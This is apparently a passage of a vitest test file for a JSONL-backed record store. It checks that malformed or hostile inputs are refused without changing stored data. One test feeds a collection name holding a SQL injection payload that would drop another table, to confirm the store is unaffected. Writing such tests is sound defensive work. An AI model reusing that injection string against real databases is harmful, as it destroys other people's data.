/**
 * Input a careless or hostile caller hands the library, and lines another tool left in a
 * log: each is refused with a typed error that changes nothing, or read as the caller
 * meant it, never half-taken or silently changed.
 */
import { appendFileSync, existsSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { Store, TooLargeError, ValidationError } from '../../src/index.js';
import { quietLogger } from '../helpers/logger.js';
import { tempDir } from '../helpers/temp.js';
import { logText, openStore, thrown } from '../records/helpers.js';

/** `{"a":{"a":…1…}}`: `levels` nested objects. */
function nestedText(levels: number): string {
  return '{"a":'.repeat(levels) + '1' + '}'.repeat(levels);
}

/** `levels` nested objects: as a field's value, the record is one level deeper. */
function nestedValue(levels: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < levels; i++) value = { a: value };
  return value;
}

describe('deeply nested values', () => {
  it('a log line nested deeper than the cache can read is skipped and reported; the store still opens and answers', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes', indexes: ['t'] });
    notes.create({ id: 'kept', t: 'x' });
    store.close();
    // Another tool (or a merge from a branch such a tool wrote) left a line 1001 levels deep.
    appendFileSync(join(dir, 'notes.jsonl'), `{"id":"deep","updated_at":5,"t":"x","v":${nestedText(1000)}}\n`);

    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
    const again = reopened.collection({ name: 'notes', indexes: ['t'] });
    expect(again.list({ where: { t: 'x' } }).map((r) => r.id)).toEqual(['kept']);
    expect(again.get('deep')).toBeUndefined();
    const report = reopened.sync();
    expect(report.skipped).toEqual([{ collection: 'notes', line: 2, reason: 'nested more than 1000 levels deep' }]);
    const check = reopened.check();
    expect(check.problems).toMatchObject([{ kind: 'malformed_line', collection: 'notes', line: 2 }]);
    // The line stays in the file, and writes go on.
    expect(logText(dir, 'notes')).toContain('"id":"deep"');
    again.create({ id: 'after', t: 'x' });
    expect(again.count({ where: { t: 'x' } })).toBe(2);
    reopened.close();
  });

  it('a line exactly 1000 levels deep is a record like any other', () => {
    const { store, dir } = openStore();
    store.close();
    // The record object, `v`, and 998 levels inside it.
    appendFileSync(join(dir, 'notes.jsonl'), `{"id":"deep","updated_at":5,"t":"x","v":${nestedText(999)}}\n`);
    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
    const notes = reopened.collection({ name: 'notes', indexes: ['t'] });
    expect(notes.list({ where: { t: 'x' } }).map((r) => r.id)).toEqual(['deep']);
    expect(reopened.check().ok).toBe(true);
    reopened.close();
  });

  it('a write nested deeper than 1000 levels is a ValidationError naming the field, and writes nothing', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes', indexes: ['t'] });
    const id = notes.create({ t: 'x', v: nestedValue(999) }); // the record is 1000 levels deep: accepted
    expect(notes.list({ where: { t: 'x' } }).map((r) => r.id)).toEqual([id]);
    const before = logText(dir, 'notes');
    for (const levels of [1000, 5000, 100_000]) {
      const err = thrown(() => notes.create({ t: 'y', v: nestedValue(levels) }));
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect(err).toMatchObject({ code: 'VALIDATION', field: 'v' });
      expect(err.message).toMatch(/more than 1000 levels deep/);
      const patchErr = thrown(() => notes.patch(id, { w: [nestedValue(levels - 1)] }));
      expect(patchErr).toMatchObject({ code: 'VALIDATION', field: 'w' });
    }
    expect(logText(dir, 'notes')).toBe(before);
    expect(notes.count({ where: { t: 'x' } })).toBe(1);
    store.close();
  });
});

describe('queries', () => {
  it('a misspelt query key, or a query that is not an object, is a TypeError instead of a query without that condition', () => {
    const { store } = openStore();
    const notes = store.collection({ name: 'notes' });
    notes.createMany([{ status: 'open' }, { status: 'done' }]);
    for (const [query, field] of [
      [{ wher: { status: 'open' } }, 'wher'],
      [{ where: { status: 'open' }, order: '-updated_at' }, 'order'],
      [{ filter: { status: 'open' } }, 'filter'],
      [{ limt: 1 }, 'limt'],
    ] as const) {
      const err = thrown(() => notes.list(query as never)) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field });
      expect(thrown(() => notes.count(query as never))).toMatchObject({ code: 'VALIDATION', field });
    }
    for (const query of ['status=open', null, [], 5]) {
      const err = thrown(() => notes.list(query as never)) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field: 'query' });
    }
    // The four keys still work, and count accepts a list query (it counts what `where` matches).
    const query = { where: { status: 'open' }, orderBy: 'status', limit: 1, offset: 0 };
    expect(notes.list(query).map((r) => r.status)).toEqual(['open']);
    expect(notes.count(query)).toBe(1);
    expect(notes.list({ where: undefined }).length).toBe(2);
    store.close();
  });
});

describe('numbers beyond 2^53 in queries', () => {
  it('a filter on a number finds the records holding that number, however the log spells it', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes', indexes: ['n'] });
    notes.create({ id: 'lib', n: 2 ** 60 }); // JSON.stringify writes 1152921504606847000
    notes.create({ id: 'neg', n: -(2 ** 60) });
    notes.create({ id: 'str', n: '1152921504606846976' });
    notes.create({ id: 'small', n: 5 });
    store.close();
    // Other writers spell 2^60 exactly, or with digits JavaScript rounds to it.
    appendFileSync(join(dir, 'notes.jsonl'), '{"id":"exact","updated_at":5,"n":1152921504606846976}\n{"id":"near","updated_at":5,"n":1152921504606846977}\n');
    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
    const c = reopened.collection({ name: 'notes', indexes: ['n'] });
    const ids = (where: Record<string, unknown>): string[] => c.list({ where: where as never, orderBy: 'id' }).map((r) => r.id);
    expect(c.get('near')!.n).toBe(2 ** 60);
    expect(ids({ n: 2 ** 60 })).toEqual(['exact', 'lib', 'near']);
    expect(ids({ n: { in: [2 ** 60, 5] } })).toEqual(['exact', 'lib', 'near', 'small']);
    expect(ids({ n: { in: [-(2 ** 60), null] } })).toEqual(['neg']);
    expect(ids({ n: { ne: 2 ** 60 } })).toEqual(['neg', 'small', 'str']);
    expect(ids({ n: { gte: 2 ** 60 } })).toEqual(['exact', 'lib', 'near']);
    expect(ids({ n: { gt: 2 ** 60 } })).toEqual([]);
    expect(ids({ n: { lt: 2 ** 60, gt: -(2 ** 60) } })).toEqual(['small']);
    expect(c.count({ where: { n: 2 ** 60 } })).toBe(3);
    reopened.close();
  });

  it('property: every operator answers as JavaScript compares the numbers the records read back as', () => {
    const { store, dir } = openStore();
    const big = fc.oneof(
      fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n }).map((n) => n.toString()),
      fc.integer({ min: -1000, max: 1000 }).map(String),
      fc.constantFrom('9007199254740993', '1152921504606846976', '1152921504606847000', '12345678901234567890', '1e300'),
    );
    let round = 0;
    fc.assert(
      fc.property(fc.array(big, { minLength: 1, maxLength: 6 }), big, fc.constantFrom('eq', 'ne', 'lt', 'lte', 'gt', 'gte', 'in'), (stored, probeText, op) => {
        const name = `p${round++}`;
        const c = store.collection({ name });
        // Written as text by another tool: the digits stay in the log as written.
        appendFileSync(join(dir, `${name}.jsonl`), stored.map((text, i) => `{"id":"r${i}","updated_at":1,"n":${text}}\n`).join(''));
        store.refresh();
        // …and written by the library, which writes what JavaScript holds.
        c.createMany(stored.map((text, i) => ({ id: `w${i}`, n: Number(text) })));
        const probe = Number(probeText);
        const compare: Record<string, (n: number) => boolean> = {
          eq: (n) => n === probe, ne: (n) => n !== probe, lt: (n) => n < probe, lte: (n) => n <= probe,
          gt: (n) => n > probe, gte: (n) => n >= probe, in: (n) => n === probe,
        };
        const where = { n: op === 'in' ? { in: [probe] } : { [op]: probe } };
        const expected = c.list({ orderBy: 'id' }).filter((r) => compare[op]!(r.n as number)).map((r) => r.id);
        expect(c.list({ where: where as never, orderBy: 'id' }).map((r) => r.id)).toEqual(expected);
      }),
      { numRuns: 150 },
    );
    store.close();
  });
});

describe('range operators across types', () => {
  it('a number bound matches numbers only, a string bound strings only (SQLite orders every number before every string)', () => {
    const { store } = openStore();
    const tasks = store.collection({ name: 'tasks', indexes: ['estimate'] });
    tasks.create({ id: 'two', estimate: 2 });
    tasks.create({ id: 'ten', estimate: 10 });
    tasks.create({ id: 'text', estimate: 'unknown' });
    tasks.create({ id: 'digits', estimate: '3h' });
    tasks.create({ id: 'flag', estimate: true });
    tasks.create({ id: 'none', estimate: null });
    tasks.create({ id: 'missing' });
    const ids = (where: Record<string, unknown>): string[] => tasks.list({ where: where as never, orderBy: 'id' }).map((r) => r.id);
    expect(ids({ estimate: { gt: 5 } })).toEqual(['ten']);
    expect(ids({ estimate: { gte: 1 } })).toEqual(['flag', 'ten', 'two']); // true compares as 1, as documented
    expect(ids({ estimate: { lt: 5 } })).toEqual(['flag', 'two']);
    expect(ids({ estimate: { lt: 'v' } })).toEqual(['digits', 'text']);
    expect(ids({ estimate: { gte: '3', lte: '4' } })).toEqual(['digits']);
    expect(ids({ estimate: { gt: '' } })).toEqual(['digits', 'text']);
    expect(tasks.count({ where: { estimate: { gt: 0 } } })).toBe(3);
    // id and updated_at are columns: compared as before.
    expect(ids({ id: { gte: 't', lt: 'tf' } })).toEqual(['ten', 'text']);
    expect(tasks.count({ where: { updated_at: { gt: 0 } } })).toBe(7);
    store.close();
  });
});

describe('values JSON would change', () => {
  it('a hole in a sparse array is refused like undefined, naming the field, instead of being stored as null', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const id = notes.create({ tags: ['a', 'b'] });
    const before = logText(dir, 'notes');
    // eslint-disable-next-line no-sparse-arrays
    for (const tags of [[1, , 3], new Array(2), Object.assign([], { 1: 'x' })]) {
      const err = thrown(() => notes.create({ tags }));
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect(err).toMatchObject({ code: 'VALIDATION', field: 'tags' });
      expect(err.message).toMatch(/hole/);
      expect(thrown(() => notes.patch(id, { meta: { tags } }))).toMatchObject({ code: 'VALIDATION', field: 'meta.tags' });
      expect(thrown(() => store.createPrd({ title: 't', extra: tags } as never))).toMatchObject({ code: 'VALIDATION' });
    }
    expect(logText(dir, 'notes')).toBe(before);
    expect(notes.get(id)!.tags).toEqual(['a', 'b']);
    store.close();
  });
});

describe('values that read differently the second time (getters, Proxies)', () => {
  /** An object whose `v` reads `first` once, then `later` on every read after. */
  function changing(first: unknown, later: unknown): Record<string, unknown> {
    let reads = 0;
    return {
      get v() {
        reads++;
        return reads === 1 ? first : later;
      },
    };
  }

  it('are read once: what was checked is what is written (NaN, a Date, a function or undefined slipped past the check, stored as null, a string or nothing)', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const schemaNotes = store.collection<Record<string, unknown>>({ name: 'checked', schema: { parse: (value: unknown) => value as Record<string, unknown> } });
    for (const later of [NaN, new Date(0), () => 1, undefined, Symbol('s')]) {
      for (const c of [notes, schemaNotes]) {
        const nestedId = c.create({ o: changing(1, later) });
        expect(c.get(nestedId)!.o).toEqual({ v: 1 });
        const topId = c.create(changing(1, later));
        expect(c.get(topId)!.v).toBe(1);
        expect(c.patch(topId, { o: changing(2, later) }).o).toEqual({ v: 2 });
        expect(c.get(topId)!.o).toEqual({ v: 2 });
      }
      const prd = store.createPrd({ title: 't', meta: changing(1, later) } as never);
      expect((store.getPrd(prd) as unknown as { meta: unknown }).meta).toEqual({ v: 1 });
    }
    // NaN and undefined would be written as null, a Date as its ISO string (1970-01-01T…);
    // matched as values, since a random id or a stamp may hold the digits 1970.
    expect(logText(dir, 'notes')).not.toMatch(/:null|"1970-01-01T/);
    // A Proxy that lists `b` (NaN) only from its second listing on (JSON.stringify's): the
    // write either refuses b or stores the object without it, never b as null.
    let listings = 0;
    const shifty = new Proxy({ a: 1, b: NaN } as Record<string, unknown>, {
      ownKeys: () => (++listings === 1 ? ['a'] : ['a', 'b']),
    });
    let created: string | undefined;
    try {
      created = notes.create({ id: 'shifty', p: shifty });
    } catch (err) {
      expect(err).toMatchObject({ code: 'VALIDATION', field: 'p.b' });
    }
    if (created !== undefined) expect(notes.get(created)!.p).toEqual({ a: 1 });
    expect(logText(dir, 'notes')).not.toMatch(/null/);
    expect(store.check().problems.filter((p) => p.kind === 'cache_drift')).toEqual([]);
    store.close();
  });
});

describe('what JSON.stringify would skip or replace without a word', () => {
  it('a toJSON method, a named property on an array and a field keyed by a symbol are refused, naming the field; nothing is written', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const id = notes.create({ tags: ['a'] });
    const before = logText(dir, 'notes');
    const withToJson = Object.assign([1, 2], { toJSON: () => 'x' });
    const hiddenToJson = Object.defineProperty([1, 2], 'toJSON', { value: () => 'x' });
    const objectToJson = Object.defineProperty({ a: 1 }, 'toJSON', { value: () => ({ b: 2 }) });
    const named = Object.assign(['a'], { note: 'kept?' });
    const match = /(b)/.exec('abc')!; // carries index, input and groups
    const symbolKeyed = { a: 1, [Symbol('s')]: 2 };
    for (const [value, pattern] of [
      [withToJson, /toJSON/],
      [hiddenToJson, /toJSON/],
      [objectToJson, /toJSON/],
      [named, /named property "note"/],
      [match, /named property "index"/],
      [symbolKeyed, /Symbol\(s\)/],
    ] as const) {
      for (const write of [
        () => notes.create({ v: value }),
        () => notes.createMany([{ ok: 1 }, { v: value }]),
        () => notes.update(id, { v: value }),
        () => notes.patch(id, { deep: { v: value } }),
        () => store.createPrd({ title: 't', v: value } as never),
      ]) {
        const err = thrown(write);
        expect(err, String(err)).toBeInstanceOf(ValidationError);
        expect(err.message).toMatch(pattern);
        expect((err as ValidationError).field).toMatch(/^(deep\.)?v$/);
      }
    }
    // On the record itself too.
    expect(thrown(() => notes.create(symbolKeyed))).toMatchObject({ code: 'VALIDATION' });
    expect(thrown(() => notes.patch(id, objectToJson))).toMatchObject({ code: 'VALIDATION' });
    expect(logText(dir, 'notes')).toBe(before);
    expect(notes.get(id)!.tags).toEqual(['a']);
    expect(store.check().problems.filter((p) => p.kind === 'cache_drift')).toEqual([]);
    // Non-enumerable fields are not data (object spread skips them too): not stored, not refused.
    const hidden = Object.defineProperty({ a: 1 }, 'secret', { value: 2, enumerable: false });
    expect(notes.get(notes.create({ h: hidden }))!.h).toEqual({ a: 1 });
    store.close();
  });

  it('the record methods (createPrd, createTaskSpec, update…) refuse them too, also in fields their schema knows (zod rebuilt the array without a word)', () => {
    const { store, dir } = openStore();
    const prd = store.createPrd({ title: 'p' });
    const dep = store.createTaskSpec({ prd_id: prd, phase_name: 'a' });
    const before = logText(dir, 'task_specs') + logText(dir, 'prds');
    const named = Object.assign([dep], { note: 'x' });
    const withToJson = Object.assign([dep], { toJSON: () => [] });
    const hiddenToJson = Object.defineProperty({ title: 'x' }, 'toJSON', { value: () => ({ title: 'y' }) });
    for (const [write, pattern] of [
      [() => store.createTaskSpec({ prd_id: prd, phase_name: 'b', dependencies: named }), /named property "note"/],
      [() => store.createTaskSpec({ prd_id: prd, phase_name: 'b', dependencies: withToJson }), /toJSON/],
      [() => store.updateTaskSpec(dep, { prd_id: prd, phase_name: 'b', dependencies: named }), /named property "note"/],
      [() => store.createPrd({ title: 'x', [Symbol('s')]: 1 } as never), /Symbol\(s\)/],
      [() => store.createPrd(hiddenToJson), /toJSON/],
      [() => store.updatePrd(prd, hiddenToJson), /toJSON/],
    ] as const) {
      const err = thrown(write);
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect(err.message).toMatch(pattern);
    }
    expect(logText(dir, 'task_specs') + logText(dir, 'prds')).toBe(before);
    // A field the schema knows still gets the schema's message, which says what it must be.
    expect(thrown(() => store.createPrd({ title: (() => 'x') as never })).message).toBe('invalid PRD: title must be a string (got a function)');
    store.close();
  });

  it('a circular reference is named as one, not as nesting too deep', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const loop: Record<string, unknown> = { a: 1 };
    loop.self = loop;
    const list: unknown[] = [1];
    list.push({ back: list });
    for (const [record, field] of [[{ o: loop }, 'o.self'], [{ l: list }, 'l[1].back']] as const) {
      const err = thrown(() => notes.create(record));
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect(err.message).toMatch(/circular reference/);
      expect(err).toMatchObject({ field });
    }
    // The same object twice, side by side, is no circle.
    const shared = { n: 1 };
    expect(notes.get(notes.create({ a: shared, b: [shared, shared] }))).toMatchObject({ a: { n: 1 }, b: [{ n: 1 }, { n: 1 }] });
    expect(logText(dir, 'notes').split('\n').filter(Boolean)).toHaveLength(1);
    store.close();
  });
});

describe('a record whose JSON text is longer than a JavaScript string can be', () => {
  it('is a TooLargeError like any record over the limit (it was V8\'s bare RangeError: Invalid string length); nothing is written', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const id = notes.create({ n: 1 });
    const before = logText(dir, 'notes');
    // 17 × 32 Mi characters: past V8's longest string (2^29 - 24), held as one string 17 times.
    const part = 'x'.repeat(2 ** 25);
    const parts = Array.from({ length: 17 }, () => part);
    for (const write of [() => notes.create({ parts }), () => store.transaction(() => notes.patch(id, { parts }))]) {
      const err = thrown(write);
      expect(err, String(err)).toBeInstanceOf(TooLargeError);
      expect(err).toMatchObject({ code: 'TOO_LARGE', data: { collection: 'notes', bytes: null, limit: 10 * 1024 * 1024 } });
    }
    expect(logText(dir, 'notes')).toBe(before);
    expect(store.check().problems).toEqual([]);
    expect(notes.patch(id, { n: 2 }).n).toBe(2);
    store.close();
  });
});

describe('store.collection() options that answer differently the second time', () => {
  it('are read once: a name checked as valid is the name the table is made for (a getter\'s later answer reached the CREATE TABLE of the cache)', () => {
    const { store } = openStore();
    store.collection({ name: 'victim' }).create({ id: 'v' });
    let reads = 0;
    const options = {
      get name() {
        return ++reads === 1 ? 'evil' : 'evil" (x); DROP TABLE "c_victim"; CREATE TABLE "c_z';
      },
      indexes: ['status'],
    };
    const evil = store.collection(options as never);
    expect(evil.name).toBe('evil');
    expect(reads).toBe(1);
    expect(store.collection({ name: 'victim' }).get('v')).toMatchObject({ id: 'v' });
    expect(store.collectionNames()).toContain('evil');
    expect(store.check().problems).toEqual([]);
    store.close();
  });
});

describe('a where condition that is undefined', () => {
  it('is refused instead of skipped (it matched every record: { owner: user.id } with no user.id listed everyone\'s)', () => {
    const { store } = openStore();
    const notes = store.collection({ name: 'notes' });
    notes.createMany([{ owner: 'ana' }, { owner: 'bo' }]);
    for (const run of [() => notes.list({ where: { owner: undefined } as never }), () => notes.count({ where: { owner: undefined } as never }), () => notes.listTexts({ where: { status: 'x', owner: undefined } as never })]) {
      const err = thrown(run);
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect(err).toMatchObject({ code: 'VALIDATION', field: 'owner' });
    }
    expect(notes.list({ where: { owner: null } })).toEqual([]);
    expect(notes.count({ where: {} })).toBe(2);
    store.close();
  });
});

describe('clocks', () => {
  it('a claim under a clock returning fractions or NaN blames the clock, not leaseMs, and writes nothing', () => {
    const { store, dir } = openStore();
    const prdId = store.createPrd({ title: 'p' });
    const specId = store.createTaskSpec({ prd_id: prdId, phase_name: 'a' });
    const before = logText(dir, 'task_specs');
    const realNow = Date.now;
    try {
      for (const clock of [realNow() + 0.5, Number.NaN, 2 ** 53 + 2]) {
        Date.now = () => clock;
        for (const claim of [() => store.claimTaskSpec(specId, 'loop'), () => store.claimNextReadyTaskSpec('loop', { leaseMs: 1000 })]) {
          const err = thrown(claim);
          expect(err, String(err)).toBeInstanceOf(ValidationError);
          expect(err.message).toContain(`the clock returned ${clock}`);
          expect(err.message).not.toMatch(/leaseMs/);
        }
      }
      expect(logText(dir, 'task_specs')).toBe(before);
      Date.now = realNow;
      store.claimTaskSpec(specId, 'loop');
      const claimed = logText(dir, 'task_specs');
      Date.now = () => realNow() + 0.5;
      expect(thrown(() => store.renewTaskSpecClaim(specId, 'loop')).message).toContain('the clock returned');
      expect(logText(dir, 'task_specs')).toBe(claimed);
    } finally {
      Date.now = realNow;
    }
    store.close();
  });
});

describe('transactions', () => {
  it('a generator function (whose body a call does not run) is a TypeError, not a transaction that silently writes nothing', () => {
    const { store } = openStore();
    const notes = store.collection({ name: 'notes' });
    const bodies: (() => unknown)[] = [
      function* () {
        notes.create({ id: 'g' });
      },
      async function* () {
        notes.create({ id: 'ag' });
      },
    ];
    for (const fn of bodies) {
      const err = thrown(() => store.transaction(fn)) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect((err as Error).message).toMatch(/generator function/);
      expect(thrown(() => store.transaction(() => store.transaction(fn)))).toBeInstanceOf(TypeError);
    }
    expect(notes.count()).toBe(0);
    expect(store.transaction(() => notes.create({ id: 'plain' }))).toBe('plain');
    store.close();
  });
});

describe('watch options', () => {
  it('a misspelt option is a TypeError, instead of a watcher of every collection', () => {
    const { store } = openStore();
    for (const options of [{ colections: ['notes'] }, { collection: 'notes' }, { sinse: 0 }]) {
      const err = thrown(() => store.watch(() => {}, options as never)) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field: Object.keys(options)[0] });
      expect(thrown(() => store.changes(options as never))).toBeInstanceOf(TypeError);
    }
    const controller = new AbortController();
    const iterator = store.changes({ collections: ['notes'], since: 0, signal: controller.signal });
    controller.abort();
    void iterator.return?.();
    store.watch(() => {}, { collections: ['notes'], since: 0 })();
    store.close();
  });
});

describe('write options', () => {
  it('a misspelt ifUpdatedAt or force is a TypeError, instead of an unconditional write (a lost update) or an ignored flag', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const id = notes.create({ v: 1 });
    const { prdId, specId } = (() => {
      const prd = store.createPrd({ title: 'p' });
      return { prdId: prd, specId: store.createTaskSpec({ prd_id: prd, phase_name: 'a' }) };
    })();
    const before = { notes: logText(dir, 'notes'), prds: logText(dir, 'prds'), specs: logText(dir, 'task_specs') };
    const stale = 1; // no version has this updated_at: a conditional write must refuse
    const calls: [() => unknown, string][] = [
      [() => notes.patch(id, { v: 2 }, { ifUpdatedAT: stale } as never), 'ifUpdatedAT'],
      [() => notes.update(id, { v: 2 }, { if_updated_at: stale } as never), 'if_updated_at'],
      [() => notes.delete(id, { ifUpdated: stale } as never), 'ifUpdated'],
      [() => notes.delete(id, { forced: true } as never), 'forced'],
      [() => store.updatePrd(prdId, { title: 'q' }, { ifUpdatedat: stale } as never), 'ifUpdatedat'],
      [() => store.updateTaskSpec(specId, { prd_id: prdId, phase_name: 'b' }, { expected: stale } as never), 'expected'],
    ];
    for (const [call, field] of calls) {
      const err = thrown(call) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field });
    }
    expect(thrown(() => notes.delete(id, { force: 'yes' } as never))).toMatchObject({ code: 'VALIDATION', field: 'force' });
    expect({ notes: logText(dir, 'notes'), prds: logText(dir, 'prds'), specs: logText(dir, 'task_specs') }).toEqual(before);
    // Spelt right, they work.
    const current = notes.get(id)!.updated_at;
    expect(notes.patch(id, { v: 2 }, { ifUpdatedAt: current, ifUpdatedAT: undefined } as never).v).toBe(2);
    notes.delete(id, { force: false, ifUpdatedAt: notes.get(id)!.updated_at });
    store.close();
  });
});

describe('maintenance options', () => {
  it('a misspelt keepDays or onProgress is a TypeError, instead of a compaction that drops the history it was asked to keep', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const id = notes.create({ v: 1 });
    notes.patch(id, { v: 2 });
    const before = logText(dir, 'notes');
    for (const [call, field] of [
      [() => store.compact('notes', { keepDay: 30 } as never), 'keepDay'],
      [() => store.compact(undefined, { keep_days: 30 } as never), 'keep_days'],
      [() => store.sync({ onprogress: () => {} } as never), 'onprogress'],
      [() => store.check({ progress: () => {} } as never), 'progress'],
      [() => store.compact('notes', { onProgress: 5 } as never), 'onProgress'],
      [() => store.sync({ onProgress: 'bar' } as never), 'onProgress'],
      [() => store.check(null as never), 'options'],
    ] as const) {
      const err = thrown(call) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field });
    }
    expect(logText(dir, 'notes')).toBe(before);
    expect(notes.history(id)).toHaveLength(2);
    expect(store.compact('notes', { keepDays: 30, onProgress: () => {} }).collections[0]!.linesAfter).toBe(2);
    store.close();
  });

  it('a keepDays, retries or lockTimeoutMs of the wrong type is a ValidationError naming what it got: "30" is not 30, and an object without a prototype no raw TypeError', async () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const id = notes.create({ v: 1 });
    notes.patch(id, { v: 2 });
    const before = logText(dir, 'notes');
    for (const [value, got] of [
      ['30', '(got "30")'],
      [[30], '(got an array)'],
      [Object.create(null), '(got an object)'],
      [30n, '(got 30n)'],
    ] as const) {
      const err = thrown(() => store.compact('notes', { keepDays: value as never }));
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect((err as ValidationError).message).toContain(got);
      for (const key of ['retries', 'lockTimeoutMs']) {
        const rejected = await store.gitSync({ [key]: value } as never).then(() => undefined, (e: unknown) => e);
        expect(rejected, String(rejected)).toBeInstanceOf(ValidationError);
        expect((rejected as ValidationError).message).toContain(got);
      }
    }
    expect(logText(dir, 'notes')).toBe(before);
    store.close();
  });
});

describe('Store.open options', () => {
  it('a misspelt option or a logger lacking a method is a TypeError at open, not a default used without a word or a crash at the first warning', () => {
    const dir = join(tempDir(), '.taskstore');
    for (const [options, field] of [
      [{ lockTimeOutMs: 1000 }, 'lockTimeOutMs'],
      [{ durabilty: 'none' }, 'durabilty'],
      [{ logger: { error() {} } }, 'logger'],
      [{ logger: console.log }, 'logger'],
    ] as const) {
      const err = thrown(() => Store.open(dir, options as never)) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field });
    }
    // A logger whose methods come from its prototype (pino, winston, a class) is fine.
    class Quiet {
      debug(): void {}
      info(): void {}
      warn(): void {}
      error(): void {}
    }
    Store.open(dir, { durability: 'none', logger: new Quiet(), lockTimeoutMs: 1000 }).close();
    Store.open(dir, { durability: 'none', logger: console }).close();
  });
});

describe('a logger that throws', () => {
  it('changes nothing the store does: a catch-up warning no longer fails the write, a listener error no longer escapes as an uncaught exception; what it threw goes to stderr', async () => {
    const dir = join(tempDir(), '.taskstore');
    let armed = false;
    const logger = {
      debug() {},
      info() {},
      warn(m: string) {
        if (armed) throw new Error(`warn refused: ${m.slice(0, 20)}`);
      },
      error(m: string) {
        if (armed) throw new Error(`error refused: ${m.slice(0, 20)}`);
      },
    };
    const stderr: string[] = [];
    const spy = vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
      stderr.push(String(chunk));
      return true;
    });
    try {
      const store = Store.open(dir, { durability: 'none', logger });
      const notes = store.collection({ name: 'notes' });
      notes.create({ id: 'a' });
      armed = true;
      // A line another program broke: every write's catch-up warns about it.
      appendFileSync(join(dir, 'notes.jsonl'), 'garbage\n');
      expect(notes.create({ id: 'b' })).toBe('b');
      expect(notes.patch('b', { n: 1 }).n).toBe(1);
      expect(stderr.join('')).toMatch(/the logger's warn method threw \(warn refused: .*\); the message was: notes\.jsonl line 2 skipped/);
      // The feed reports a listener that threw through logger.error, from its own timer.
      const stop = store.watch(() => {
        throw new Error('listener boom');
      });
      notes.create({ id: 'c' });
      const deadline = Date.now() + 5000;
      while (!stderr.join('').includes('listener boom') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      expect(stderr.join('')).toMatch(/the logger's error method threw \(error refused: .*\); the message was: a change listener threw: listener boom/);
      stop();
      expect(notes.list().map((r) => r.id).sort()).toEqual(['a', 'b', 'c']);
      store.close();
    } finally {
      spy.mockRestore();
    }
  });
});

describe('what the caller\'s own callbacks throw', () => {
  /** What `fn` threw, whatever it is (`undefined` included). */
  function caught(fn: () => unknown): { value: unknown } {
    try {
      fn();
    } catch (err) {
      return { value: err };
    }
    return expect.fail('expected a throw') as never;
  }

  it('reaches the caller as it was thrown: not a TypeError of the store\'s own (throw undefined in a transaction), not an IoError (onProgress during a compaction)', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    // Over 1 MiB of log, so the compaction reports progress while it rewrites.
    notes.createMany(Array.from({ length: 3000 }, (_, i) => ({ id: `n${i}`, pad: 'x'.repeat(400) })));
    for (let i = 0; i < 100; i++) notes.patch(`n${i}`, { v: i });
    const before = logText(dir, 'notes');
    const stop = new Error('stop');
    for (const value of [undefined, null, 'text', stop]) {
      expect(caught(() => store.transaction(() => {
        notes.create({ id: 'rolled-back' });
        throw value;
      })).value).toBe(value);
      const whileRewriting = (done: number, total: number): void => {
        if (done < total) throw value;
      };
      expect(caught(() => store.compact('notes', { onProgress: whileRewriting })).value).toBe(value);
      expect(caught(() => store.sync({ onProgress: () => { throw value; } })).value).toBe(value);
    }
    expect(logText(dir, 'notes')).toBe(before);
    expect(readdirSync(dir).filter((f) => f.includes('.tmp') || f.includes('compact'))).toEqual([]);
    expect(store.check().problems).toEqual([]);
    expect(notes.get('rolled-back')).toBeUndefined();
    expect(store.compact('notes').collections[0]).toMatchObject({ linesBefore: 3100, linesAfter: 3000 });
    store.close();
  });
});

describe('gitSync options', () => {
  it('a misspelt option is a TypeError before anything happens, not a sync with the default remote', async () => {
    const { store } = openStore();
    for (const [options, field] of [
      [{ remot: 'backup' }, 'remot'],
      [{ brnach: 'main' }, 'brnach'],
    ] as const) {
      const err = await store.gitSync(options as never).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field });
    }
    // Spelt right, the options pass their check (this store is in no git work tree).
    await expect(store.gitSync({ remote: 'backup', retries: 0 })).rejects.toMatchObject({ code: 'IO' });
    store.close();
  });

